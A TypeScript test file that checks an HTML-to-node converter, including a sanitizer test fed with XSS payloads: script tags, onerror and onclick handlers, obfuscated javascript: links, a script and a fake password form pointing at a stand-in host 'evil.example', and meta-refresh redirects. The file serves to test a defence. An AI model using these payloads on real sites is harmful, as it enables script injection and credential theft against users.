import fc from 'fast-check'
import { expect, test } from 'vitest'
import type { PageNode } from '#schemas'
import { nodesOfHtml } from './html-nodes.ts'

test('headings, lists, links and marked words become nodes', () => {
  const html = `<h1>Football &amp; odds</h1><p>A <b>bold</b> word,<br>a <a href="/en/line">line</a>.</p>
    <ul><li>One<li>Two <i>more</i></ul>`
  expect(nodesOfHtml(html)).toEqual([
    { tag: 'h2', children: ['Football & odds'] },
    {
      tag: 'p',
      children: [
        ...['A ', { tag: 'strong', children: ['bold'] }, ' word,', { tag: 'br' }, 'a '],
        ...[{ tag: 'a', href: '/en/line', children: ['line'] }, '.'],
      ],
    },
    {
      tag: 'ul',
      children: [
        { tag: 'li', children: ['One'] },
        { tag: 'li', children: ['Two ', { tag: 'em', children: ['more'] }] },
      ],
    },
  ])
})

test('a block ends the paragraph before it, and words in no block become one', () => {
  expect(nodesOfHtml('loose <b>words</b><p>one<p>two<h2>three')).toEqual([
    { tag: 'p', children: ['loose ', { tag: 'strong', children: ['words'] }] },
    { tag: 'p', children: ['one'] },
    { tag: 'p', children: ['two'] },
    { tag: 'h2', children: ['three'] },
  ])
})

test.each([
  '<script>alert(1)</script>',
  '<SCRIPT src=//evil.example/x.js></SCRIPT >after',
  '<img src=x onerror=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>body{display:none}</style>',
  '<p style="position:fixed" onclick="alert(1)">text</p>',
  '<form action="//evil.example"><input name=password><button>Sign in</button></form>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example">',
  '<a href="java\nscript:alert(1)">press</a>',
  '<a href="&#106;avascript:alert(1)">press</a>',
  '<a href="//evil.example">press</a>',
  '<a href="/\\evil.example">press</a>',
  '<!--><script>alert(1)</script>-->',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<p title="</p><script>alert(1)</script>">x</p>',
])('SEO-18: nothing of %s is left but words', (html) => {
  const text = JSON.stringify(nodesOfHtml(html))
  expect(text).not.toMatch(/alert\(1\)"?[,\]].*tag":"script|onerror|onclick|style|evil|srcdoc|javascript/i)
  for (const { tag, href } of elementsOf(nodesOfHtml(html))) {
    expect(['p', 'h2', 'h3', 'h4', 'ul', 'ol', 'li', 'strong', 'em', 'a', 'br', 'hr', 'blockquote', 'code']).toContain(
      tag,
    )
    expect(href).toBeUndefined()
  }
})

interface Element {
  readonly tag: string
  readonly href?: string
  readonly children?: readonly PageNode[]
}

function elementsOf(nodes: readonly PageNode[]): Element[] {
  return nodes.flatMap((node) => (typeof node === 'string' ? [] : [node, ...elementsOf(node.children ?? [])]))
}

test('SEO-18: whatever the HTML, the tree is closed, shallow and small, and its links lead to safe places', () => {
  const piece = fc.constantFrom(
    ...[
      '<p>',
      '</p>',
      '<a href="',
      'javascript:',
      'https://a.example',
      '">',
      '<li>',
      '<ul>',
      '</ul>',
      '<b>',
      '<',
      '&lt;',
    ],
    ...['<script>', '</script>', '<!--', '-->', '<div ', "onload='x'", '>', 'text', '&#x0;', '&#1114112;', '\\', '//'],
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
      const depth = (nodes: readonly PageNode[]): number =>
        Math.max(0, ...nodes.map((node) => (typeof node === 'string' ? 0 : 1 + depth(node.children ?? []))))
      const nodes = nodesOfHtml(pieces.join(''))
      expect(depth(nodes)).toBeLessThanOrEqual(21)
      for (const { href } of elementsOf(nodes))
        if (href !== undefined) expect(href).toMatch(/^(?:https:\/\/|mailto:|tel:|\/(?!\/)|#)/)
    }),
    { numRuns: 500 },
  )
})

test('a huge text is cut and takes no time', () => {
  const started = performance.now()
  expect(nodesOfHtml('<p>x</p>'.repeat(20_000)).length).toBeLessThanOrEqual(2000)
  expect(nodesOfHtml('<b>'.repeat(80_000))).toEqual([])
  expect(nodesOfHtml(`<a ${' '.repeat(200_000)}`)).toEqual([])
  expect(performance.now() - started).toBeLessThan(2000)
})
